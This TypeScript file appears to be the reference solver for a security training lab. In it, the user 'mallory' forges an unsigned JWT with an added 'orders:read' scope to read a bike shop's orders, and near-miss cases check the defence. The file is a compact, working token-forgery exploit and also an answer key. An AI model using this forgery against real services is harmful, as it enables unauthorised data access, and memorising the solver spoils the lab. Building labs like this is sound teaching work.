import { codeIn } from '../../bike-shop.ts';
import type { Participant } from '../../solver.ts';
import { labSolver } from '../attack-and-defend.ts';
import { logInAtShop, redeemAtShop } from '../lab-shop.ts';
import { contentOf, unsigned } from './forge.ts';

/** Mallory reads the orders with his own token, whose claims he may have changed. */
async function readOrders(by: Participant, change?: Readonly<Record<string, string>>): Promise<void> {
  const { url } = await logInAtShop(by, 'mallory', { prompt: 'login' });
  const { access_token = '' } = await redeemAtShop(by, codeIn({ url }));
  const { header, claims } = contentOf(access_token);
  const token = change === undefined ? access_token : unsigned({ header, claims: { ...claims, ...change } });
  await by.call('/labs/api/orders', { headers: { Authorization: `Bearer ${token}` } });
}

export const solver = labSolver({
  first: 'login',
  goal: {
    solve: by => readOrders(by, { scope: 'orders:read' }),
    nearMisses: {
      'the token as it was issued': { does: by => readOrders(by) },
      'a typo in the scope': { does: by => readOrders(by, { scope: 'order:read' }) },
      'the token of Alice': { does: by => readOrders(by, { scope: 'orders:read', sub: 'alice' }) },
      'the defence is on': {
        async does(by) {
          await by.defend(true);
          await readOrders(by, { scope: 'orders:read' });
        },
      },
    },
  },
});
